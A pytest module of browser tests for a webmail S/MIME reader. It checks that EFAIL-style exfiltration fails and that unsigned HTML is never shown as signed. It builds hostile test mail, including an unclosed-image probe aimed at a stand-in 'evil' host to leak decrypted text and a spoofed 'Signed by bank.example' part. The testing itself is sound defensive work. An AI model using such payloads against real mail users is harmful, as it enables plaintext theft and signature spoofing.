"""Mail that is half encrypted or half signed, in a real browser: rows 28 and 29, checks 42 and 43."""

from datetime import datetime

import pytest
from playwright.sync_api import Browser

from smime.pki.revocation import load_crls
from smime.verdict import Context
from tests.browser.rendering_site import Shown, Site, Watched, serving
from tests.smime.test_signet_made import ROOT, _cases, _certificate, _keys, _spec
from webmail.reader.framing import frame_views

pytestmark = [pytest.mark.browser, pytest.mark.corpus]
CASES = dict(_cases())
EFAIL = [name for name in CASES if name.startswith(("e02", "e05", "e07", "e08", "e09"))]
SPOOFED = [name for name, want in CASES.items() if want["level"] != "ok"]
PROBE = b"<img src='{evil}/leak?"


@pytest.fixture(scope="module")
def site():
    with serving() as running:
        yield running


@pytest.fixture(scope="module")
def tab(site: Site, chromium: Browser):
    context = chromium.new_context()
    yield Watched(context.new_page(), site)
    context.close()


def shown(site: Site, name: str, raw: bytes | None = None) -> Shown:
    want, spec = CASES[name], _spec()
    known = tuple(_certificate(each) for each in want.get("cert", ()))
    context = Context(
        now=datetime.fromisoformat(spec["clock"]),
        received_at=datetime.fromisoformat(want["received"]),
        anchors=tuple(_certificate(each) for each in spec["trust"]),
        known_certificates=known,
        intermediates=known,
        crls=load_crls([(ROOT / spec["crl"]).read_bytes()]),
    )
    raw = raw or (ROOT / f"{want['file']}.eml").read_bytes()
    return site.show(raw, keys=_keys(), context=context)


def safe(tab: Watched, message: Shown) -> list[str]:
    return tab.open_framed(message) + [what for url in message.alone for what in tab.open(url)]


@pytest.mark.parametrize("name", EFAIL)
def test_r42_efail(name: str, tab: Watched) -> None:
    """Row 28, check 42: nothing of an opened part leaves; each part has a frame of its own."""
    message = shown(tab.site, name)
    assert safe(tab, message) == []
    assert message.made.verdict.level != "ok"
    assert message.made.documents.images == ()


def test_r42_an_encrypted_part_never_stands_in_the_html_around_it(tab: Watched) -> None:
    """Row 28: an image left open before the encrypted part, closed behind it."""
    inner = (ROOT / f"{CASES['e01b-signed-then-gcm']['file']}.eml").read_bytes()
    head, _, body = inner.replace(b"\r\n", b"\n").partition(b"\n\n")
    fields = [
        line
        for line in head.replace(b"\n ", b" ").replace(b"\n\t", b" ").split(b"\n")
        if line.lower().startswith(b"content-")
    ]
    part = b"\n".join(fields) + b"\n\n" + body
    raw = b"\n".join(
        [
            b"From: Mallory <m@evil.example>",
            b"Content-Type: multipart/mixed; boundary=m",
            b"",
            b"--m\nContent-Type: text/html\n\n" + PROBE,
            b"--m\n" + part,
            b"--m\nContent-Type: text/html\n\n'>",
            b"--m--\n",
        ]
    )
    message = shown(tab.site, "e01b-signed-then-gcm", raw)
    assert safe(tab, message) == []
    documents = message.made.documents.frames
    assert len(documents) >= 2
    assert not any("leak" in document for document in documents if document != documents[0])
    assert message.made.verdict.level != "ok"


@pytest.mark.parametrize("name", SPOOFED)
def test_r43_what_is_not_verified_is_not_shown_as_verified(name: str, tab: Watched) -> None:
    """Row 29, check 43: the line above the frames never praises; nothing runs or loads."""
    message = shown(tab.site, name)
    assert safe(tab, message) == []
    tab.open_framed(message)
    assert message.made.verdict.level == CASES[name]["level"] != "ok"
    assert message.made.page["verdict"]["level"] != "ok"


@pytest.mark.parametrize("is_first", [True, False])
def test_r43_the_status_of_a_signed_part_stands_at_that_part(is_first: bool, tab: Watched) -> None:
    """Row 29: a sound signature beside unsigned HTML speaks for its own frame only."""
    inner = (ROOT / "s01-valid.eml").read_bytes().replace(b"\r\n", b"\n")
    head, _, body = inner.partition(b"\n\n")
    lines = head.replace(b"\n ", b" ").replace(b"\n\t", b" ").split(b"\n")
    fields = [line for line in lines if line.lower().startswith(b"content-")]
    signed = b"\n".join(fields) + b"\n\n" + body
    loose = b"Content-Type: text/html\n\n<h1>Signed by bank.example</h1>"
    first, second = (signed, loose) if is_first else (loose, signed)
    from_ = next(line for line in lines if line.lower().startswith(b"from:"))
    raw = from_ + b"\nContent-Type: multipart/mixed; boundary=m\n\n--m\n"
    raw += first + b"\n--m\n" + second + b"\n--m--\n"
    message = shown(tab.site, "s01-valid", raw)
    assert safe(tab, message) == []
    assert message.made.verdict.level != "ok"
    outside, box = sorted(
        frame_views(message.made.page, address=str, title=""), key=lambda each: each.level
    )
    assert (box.level, box.headline.startswith("Signed by")) == ("ok", True)
    assert (outside.level, outside.headline) == ("", "Not signed")
    for drawn, is_loose in ((box, False), (outside, True)):
        (frame,) = drawn.items
        assert ("bank.example" in message.made.documents.frames[int(frame.url)]) is is_loose
